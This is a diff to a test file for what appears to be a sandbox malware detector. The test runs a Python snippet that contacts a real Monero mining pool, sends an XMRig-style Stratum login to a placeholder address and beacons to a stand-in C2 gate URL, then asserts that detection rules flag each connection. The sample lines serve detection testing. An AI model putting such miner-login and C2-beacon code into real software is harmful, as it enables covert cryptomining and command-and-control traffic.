@@ -98,6 +98,9 @@ python3 -c "
 import socket, urllib.request
 try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
 except OSError as e: print('connect:', e)
+s = socket.create_connection(('203.0.113.7', 5000), timeout=3)
+s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
+s.close()
 print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', timeout=5).status)
 "
 `);
@@ -119,6 +122,10 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const byName = r.findings.find((f) => f.rule === 'ST-C2-010');
     assert.match(byName?.output ?? '', /domain=gulf\.moneroocean\.stream connection=/, JSON.stringify(r.findings.map((f) => f.rule)));
     assert.ok(!r.findings.some((f) => f.rule === 'ST-C2-002'));
+    // what python sent to a hard-coded address on no mining port: Stratum, found in the caught bytes (a rule of source session)
+    const stratum = r.findings.find((f) => f.rule === 'ST-C2-012');
+    assert.match(stratum?.output ?? '', /connection=\S*->203\.0\.113\.7:5000 .*"method":"login".* process=python3 /, JSON.stringify(r.findings.map((f) => f.output)));
+    assert.deepEqual(stratum && [stratum.evidence[0]?.event, r.processes.find((p) => p.pid === stratum.pid)?.argv[0]], ['session', 'python3']);
     assert.ok(r.network.some((n) => n.op === 'connect' && n.address === '192.0.2.53' && n.port === 53), 'the resolver\'s own traffic is listed too');
     // glibc's resolver told to ask over TCP (RES_OPTIONS=use-vc) is answered there too
     assert.match(a('over-tcp.example.test')?.answer ?? '', /^198\.1[89]\.\d+\.\d+$/, JSON.stringify(r.dns));
@@ -130,7 +137,7 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.equal(replayed.code, 0, replayed.stderr);
     const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
     assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
-    assert.match(html, /Connections caught in the sandbox \(2\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(3\)[\s\S]*GET \/gate\.php\?id=1/);
   } finally {
     t.cleanup();
   }
